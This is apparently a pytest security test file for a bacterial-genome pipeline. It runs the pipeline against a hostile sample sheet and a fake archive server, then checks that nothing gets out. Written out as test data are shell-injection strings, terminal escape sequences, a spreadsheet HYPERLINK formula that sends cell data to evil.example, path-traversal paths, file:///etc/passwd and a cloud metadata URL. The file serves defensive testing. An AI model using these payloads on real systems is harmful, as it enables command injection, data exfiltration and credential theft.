"""A hostile sheet, archive, receipt and tarball: nothing gets out, and other genomes finish.

Only the tools are stand-ins here. tests/workflow/test_attack.py attacks the real container with a
hostile tool and hostile reads.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from support.archive_data import add_run
from support.archive_server import Archive, Fault, serve
from support.fastq import make_reads, to_fastq
from support.projects import write_project
from support.stages import DOWNLOAD_PARAMETERS, Genome
from support.tools import FAKE_TOOLS

from bactofleet.archives import web
from bactofleet.cli.main import main
from bactofleet.core.samples import Sample
from bactofleet.core.toolset import needed_programs
from bactofleet.genome import download

REPOSITORY = Path(__file__).parents[2]
SECRET = "planted-secret"
QUERY = f"?X-Amz-Credential=me&X-Amz-Signature={SECRET}"
SHELL = "$(touch owned)`touch owned`|touch owned&touch owned>owned"
# A title, a cleared screen, C1's CSI; a mark that turns text around.
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x9b2J\u202e"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# Few reads are enough, and of what an archive gives no more than needed.
OPTIONS = {
    **{"min_reads": 10, "min_basepairs": 100, "min_coverage": 0.1, "min_contig_length": 50},
    **{"min_genome_size": 1000, "max_genome_size": 100_000, "threads": 1, "polish": False},
    **{"species_references": "", "providers": ["ena"]},
}
# What the runs are asked for; the table and the report come from the command.
RECEIPTS = "results/.gathered/0"
COMMANDS = (
    *("check", "report", "status", "status --json", "citations", "verify"),
    "extract --only *.gff.gz --to results/some",
)
# Records every command that is started from Python, and spares the pauses between attempts.
SITE = """
import contextlib, sys

def record(event, arguments):
    if event in {{"subprocess.Popen", "os.exec", "os.posix_spawn", "os.system"}}:
        commands.write(f"{{arguments[:2]}}\\n")  # without the environment

commands = open({path!r}, "a", buffering=1)
sys.addaudithook(record)
with contextlib.suppress(ImportError):
    from bactofleet.archives import retry
    retry.FIRST_PAUSE_S = 0.001
"""
READS = gzip.compress(to_fastq(make_reads(200, lengths=(60, 60))), mtime=0)
NOT_HTTPS = "leads to an address that is not https://"
NO_ANSWER = "SRA's answer does not have the documented form"
UNNAMED = "ENA did not name its files of SRR9000003, or not in a known form"


@dataclass
class Attacked:
    """A project on a machine of its own, after a run."""

    root: Path
    project: Path
    before: dict[str, str]
    """Checksums of all that was there before the run."""
    status: int
    said: str

    @property
    def results(self) -> Path:
        return self.project / "results"


def read_tree(root: Path) -> dict[str, str]:
    """Return a checksum of every file but those in the folders that a run writes to."""
    written = {"results", "scratch", ".snakemake", "recorded", "__pycache__"}
    return {
        str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in root.rglob("*")
        if path.is_file() and not written & set(path.relative_to(root).parts)
    }


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    """A run of a hostile sheet with a hostile server of files."""
    root = tmp_path_factory.mktemp("machine")
    project = root / "project"
    for name in ("config", "workflow", "profiles"):
        shutil.copytree(REPOSITORY / name, project / name)
    (root / "home").mkdir()
    (project / f"-rf {SHELL}.fastq.gz").write_bytes(READS)
    environment = install_tools(root)
    with serve(root) as archive:
        write_sheet(project, make_rows(archive))
        before = read_tree(root)
        ended = subprocess.run(
            [
                *(sys.executable, "-m", "snakemake", "--profile", "profiles/local", RECEIPTS),
                *("--cores", "2", "--retries", "0", "--config"),
                *(f"{name}={json.dumps(value)}" for name, value in OPTIONS.items()),
            ],
            cwd=project,
            env=os.environ | environment | archive.environment,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            check=False,
        )
    return Attacked(root, project, before, ended.returncode, ended.stdout)


def install_tools(root: Path) -> dict[str, str]:
    """Install stand-ins for the tools, and what records commands; return the environment."""
    for name in ("bin", "site", "recorded"):
        (root / name).mkdir()
    (root / "bin/python3").symlink_to(Path(sys.executable).resolve())
    for program in needed_programs(OPTIONS | {"assembler": "skesa"}):
        if not (FAKE_TOOLS / program).exists():
            (root / "bin" / program).write_text("#!/bin/sh\nexit 1\n")
            (root / "bin" / program).chmod(0o755)
    site = SITE.format(path=str(root / "recorded/commands"))
    (root / "site/sitecustomize.py").write_text(site)
    (root / "contigs.fa").write_text(f">Contig_1_12.5\n{'ATGACGTTAGCCA' * 100}\n")
    return {
        "PATH": f"{root / 'bin'}:{FAKE_TOOLS}:/usr/bin:/bin",
        "PYTHONPATH": str(root / "site"),
        "HOME": str(root / "home"),
        "FAKE_CONTIGS": str(root / "contigs.fa"),
        "AWS_SECRET_ACCESS_KEY": SECRET,
    }


def make_rows(archive: Archive) -> list[dict[str, str]]:
    """Let the archive lead elsewhere; return rows of the sheet."""
    archive.files["/metadata"] = READS
    archive.faults["/metadata"] = [Fault.TO_METADATA] * 9
    return [
        {"sample": "good", "r1": f"-rf {SHELL}.fastq.gz", "genome_size": "5000"},
        {"sample": "misled", "r1": f"{archive.url}/metadata{QUERY}"},
    ]


def write_sheet(project: Path, rows: Sequence[dict[str, str]]) -> None:
    """Write the sheet, with a column of the user's own that is hostile too."""
    columns = [*dict.fromkeys(name for row in rows for name in row), "note"]
    with (project / "config/samples.tsv").open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, columns, delimiter="\t", restval="")
        writer.writeheader()
        for row, note in zip(rows, cycle((FORMULA, f"{TERMINAL}{SHELL}")), strict=False):
            writer.writerow(row | {"note": note})


def read_records(attacked: Attacked, folder: str) -> dict[str, Any]:
    paths = (attacked.results / folder).glob("*.json")
    return {path.stem: json.loads(path.read_text()) for path in paths}


def test_the_other_genome_is_complete_and_the_failure_has_its_reason(attacked: Attacked) -> None:
    receipts, failures = read_records(attacked, "receipts"), read_records(attacked, "failed")

    assert attacked.status == 1, attacked.said
    assert {name: receipt["status"] for name, receipt in receipts.items()} == {"good": "complete"}
    assert failures.keys() == {"misled"}
    assert NOT_HTTPS in failures["misled"]["message"]


def test_nothing_outside_of_the_results_has_changed_and_no_foreign_command_ran(
    attacked: Attacked,
) -> None:
    commands = (attacked.root / "recorded/commands").read_text()

    assert read_tree(attacked.root) == attacked.before
    assert "fastp" in commands
    assert "'touch'" not in commands
    assert not list(attacked.root.rglob("owned*"))


def test_no_secret_is_left_behind(attacked: Attacked) -> None:
    holding = {
        str(path.relative_to(attacked.root))
        for path in attacked.root.rglob("*")
        if path.is_file() and SECRET.encode() in path.read_bytes()
    }

    assert holding == {"project/config/samples.tsv"}
    assert SECRET not in attacked.said


def test_no_command_lets_foreign_text_control_a_terminal_or_a_spreadsheet(
    attacked: Attacked, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(attacked.project)

    for command in COMMANDS:
        main(command.split())

    shown = capsys.readouterr()
    said = shown.out + shown.err + attacked.said
    assert "misled" in shown.out
    assert not CONTROL.search(said)
    assert SECRET not in said
    cells = list(iter_cells(attacked.results))
    assert any(FORMULA in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "-"))]
    assert not [cell for cell in cells if CONTROL.search(cell)]
    assert read_tree(attacked.root) == attacked.before


def iter_cells(results: Path) -> Iterator[str]:
    """Yield the cells of all tables."""
    for path in results.glob("*.tsv"):
        with path.open(newline="", encoding="utf-8") as file:
            for row in csv.reader(file, dialect="excel-tab"):
                yield from row


# --- archives -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    """What an archive says of the run that is asked for, and how the genome's failure begins."""

    ends: str
    ena: dict[str, str] = field(default_factory=dict)
    pages: dict[str, bytes] = field(default_factory=dict)
    endless: str = ""


SEARCH = "/ena/portal/api/search"
RUNINFO, ESEARCH = "/entrez/eutils/efetch.fcgi", "/entrez/eutils/esearch.fcgi"
OUTSIDE = "ftp.sra.ebi.ac.uk/../../../../owned/SRR9000003.fastq.gz"
ATTACKS = {
    "a file longer than announced": Attack("bytes, not 10", {"fastq_bytes": "10"}),
    "a file larger than any disk": Attack("the disk is full", {"fastq_bytes": "9" * 15}),
    "a path that leads out": Attack(UNNAMED, {"fastq_ftp": OUTSIDE}),
    "a path like a folder": Attack(UNNAMED, {"fastq_ftp": "ftp.sra.ebi.ac.uk/SRR9000003/.."}),
    "an option as a path": Attack(UNNAMED, {"fastq_ftp": "ftp.sra.ebi.ac.uk/-o/SRR9000003.gz"}),
    "another host": Attack(UNNAMED, {"fastq_ftp": "evil.example/SRR9000003.fastq.gz"}),
    "a run like a folder": Attack(NO_ANSWER, {"run_accession": "../../../owned"}),
    "a run like a command": Attack(NO_ANSWER, {"run_accession": SHELL}),
    "words for a number": Attack(NO_ANSWER, {"read_count": TERMINAL + FORMULA}),
    "an endless answer": Attack(NO_ANSWER, endless=SEARCH),
    "no table": Attack(NO_ANSWER, pages={SEARCH: b"\0" * 1000}),
    "a cell of a megabyte": Attack(NO_ANSWER, pages={SEARCH: b"run_accession\n" + b"x" * 2**20}),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_what_an_archive_says_becomes_neither_a_path_nor_a_command(
    archive: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    attack = ATTACKS[name]
    monkeypatch.setattr(web, "MAX_ANSWER_BYTES", 1 << 22)
    monkeypatch.chdir(tmp_path)
    run = add_run(archive, "SRR9000003", (".fastq.gz", READS), experiment="SRX9000003")
    run |= attack.ena
    archive.pages |= {ESEARCH: b'{"a":' * 100_000} | attack.pages
    if attack.endless:
        archive.faults[attack.endless] = [Fault.ENDLESS]
    genome = Genome(tmp_path)
    planned = genome.plan(Sample("S1", accession="SRX9000003", genome_size=5000))

    assert genome.run("download", download.run, parameters=DOWNLOAD_PARAMETERS | planned) == 75

    assert attack.ends in genome.failure()["message"]
    assert not CONTROL.search(genome.failure()["message"])
    assert not [path for path in tmp_path.rglob("*") if "owned" in path.name]
    assert {path.name for path in tmp_path.iterdir()} <= {
        *("scratch", "logs", "failed", "samples.sqlite"),
        "bin",
    }


@pytest.mark.parametrize(
    "row", [Sample("S1", r1=["credentials"]), Sample("S1", assembly="credentials")]
)
def test_a_file_that_is_no_genome_is_not_quoted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, row: Sample
) -> None:
    """A sheet may name a private file of whoever runs it, and receipts are shown to others."""
    monkeypatch.chdir(tmp_path)
    Path("credentials").write_text(f"{SECRET}\n" * 4)
    genome = Genome(tmp_path)
    planned = genome.plan(row)

    assert genome.run("download", download.run, parameters=DOWNLOAD_PARAMETERS | planned) == 0

    assert genome.record("download").excluded
    for path in (tmp_path / name for name in ("scratch", "logs")):
        files = [file for file in path.rglob("*") if file.is_file()]
        assert not [file for file in files if SECRET in file.read_text(errors="replace")]


# --- the sheet ------------------------------------------------------------------------------------


REFUSED = (
    {"sample": "../../owned", "r1": "reads.fq"},
    {"sample": "/etc/owned", "r1": "reads.fq"},
    {"sample": SHELL, "r1": "reads.fq"},
    {"sample": FORMULA, "r1": "reads.fq"},
    {"sample": TERMINAL, "r1": "reads.fq"},
    {"sample": "-rf", "r1": "reads.fq"},
    {"sample": "n" * 100_000, "r1": "reads.fq"},
    {"sample": "device", "r1": "/dev/zero"},
    {"sample": "folder", "r1": "."},
    {"sample": "file", "r1": "file:///etc/passwd"},
    {"sample": "metadata", "r1": "http://169.254.169.254/latest/meta-data/"},
    {"sample": "login", "r1": f"https://me:{SECRET}@localhost/reads.fq"},
    {"sample": "long", "r1": "r" * 100_000},
    {"sample": "words", "r1": TERMINAL},
    {"sample": "species", "r1": "reads.fq", "species": f"Owned {SHELL}"},
    {"sample": "size", "r1": "reads.fq", "genome_size": "9" * 100_000},
)


def test_a_sheet_of_hostile_names_is_refused_line_by_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    write_project(tmp_path, [])
    (tmp_path / "reads.fq").write_bytes(READS)
    write_sheet(tmp_path, REFUSED)
    monkeypatch.chdir(tmp_path)
    before = read_tree(tmp_path)

    assert main(["check"]) == 1

    said = capsys.readouterr().err
    lines = {int(number) for number in re.findall(r"line (\d+), column", said)}
    assert lines == set(range(2, len(REFUSED) + 2)), said
    assert not CONTROL.search(said)
    assert SECRET not in said
    assert len(said) < 10_000
    assert read_tree(tmp_path) == before
